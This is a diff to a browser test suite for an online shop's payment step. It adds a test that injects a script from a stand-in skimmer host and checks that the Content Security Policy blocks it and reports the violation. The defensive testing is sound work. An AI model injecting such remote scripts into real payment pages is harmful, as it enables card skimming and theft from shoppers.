@@ -215,6 +215,19 @@ test.describe('the payment script is blocked', () => {
   });
 });
 
+test.describe('a script that nobody knows', () => {
+  test.use({ allowedErrors: [/skimmer\.example/] });
+
+  test('is stopped by the policy of the payment step, and the shop is told', async ({ page }) => {
+    await reachPayment(page);
+    const told = page.waitForRequest('**/api/csp-reports');
+    await page.evaluate(() => {
+      document.head.append(Object.assign(document.createElement('script'), { src: 'https://skimmer.example/card.js' }));
+    });
+    expect((await (await told).response())?.status()).toBe(204);
+  });
+});
+
 test('a card that is not complete is not sent', async ({ page }) => {
   await reachPayment(page);
   const keys = watchOrders(page);
